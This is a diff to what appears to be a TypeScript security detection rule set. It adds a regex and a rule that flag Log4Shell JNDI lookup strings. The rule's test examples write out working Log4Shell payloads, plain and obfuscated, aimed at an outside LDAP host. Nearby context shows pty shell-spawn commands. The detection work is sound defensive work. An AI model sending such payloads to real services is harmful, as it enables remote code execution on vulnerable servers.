@@ -228,6 +228,8 @@ function downloadExecsOf(input: AnalysisInput): DownloadExec[] {
   return out;
 }
 
+/** `${jndi:`, also with its letters built by lookups (`${${lower:j}ndi:`, `${j${::-n}di:`). */
+const JNDI = /\$\{(?:j|\$\{[^{}]{0,24}\})(?:n|\$\{[^{}]{0,24}\})?(?:d|\$\{[^{}]{0,24}\})(?:i|\$\{[^{}]{0,24}\})?:/i;
 /** Interpreter code that fetches over HTTP: Python, Perl, Ruby, PHP and Node libraries and calls, and Cocoa's from JXA. */
 const FETCHING_CODE = /urlopen|requests\.get|urllib|http\.client|Net::HTTP|open-uri|URI\.open|LWP::|HTTP::Tiny|\bget\s*\(\s*["']https?:|file_get_contents|require\(\s*["']https?["']\s*\)|\bfetch\s*\(|axios|dataWithContentsOfURL|stringWithContentsOfURL/;
 
@@ -700,6 +702,15 @@ export const RULES: readonly Rule[] = [
       return c ? c.argv.join(' ') : undefined;
     },
     examples: { fire: ['python3 -c \'import pty;pty.spawn("/bin/bash")\'', "python -c 'import pty; pty.spawn(\"/bin/sh\")'", 'script -qc /bin/bash /dev/null'], quiet: ["python3 -c 'import pty; print(pty.STDIN_FILENO)'", 'script -q session.log', 'script -qc "npm test" /dev/null'] },
+  },
+  {
+    id: 'PX-C2-026', name: 'sends-jndi-lookup', score: 85, tactic: 'initial_access', technique: 'T1190', strong: true,
+    message: 'Sends a JNDI lookup string (Log4Shell) to a service', why: 'A `${jndi:ldap://…}` string in a header, parameter or body makes a vulnerable Log4j load and run a class from the attacker\'s server.',
+    check: (i) => {
+      const texts = i.call.kind === 'network' ? [i.call.url, ...Object.values(i.call.headers), i.call.body ?? ''] : (i.view?.commands ?? []).filter((c) => isFetcher(c) || c.name === 'nc' || c.name === 'ncat').flatMap((c) => c.argv.slice(1));
+      return texts.find((t) => JNDI.test(t.slice(0, 4096)))?.slice(0, 160);
+    },
+    examples: { fire: ["curl -s http://10.0.0.40:8080/ -H 'X-Api-Version: ${jndi:ldap://45.9.148.35:1389/Basic/Command/Base64/Y3VybA==}'", { Network: { method: 'GET', url: 'http://10.0.0.40:8080/', headers: { 'User-Agent': '${${lower:j}ndi:ldap://45.9.148.35/a}' } } }], quiet: ['curl -s http://localhost:8080/health', "grep -rn 'jndi:' logs/", { Network: { method: 'POST', url: 'https://api.example.com/notes', body: 'the CVE-2021-44228 writeup' } }] },
   },
 ];
 
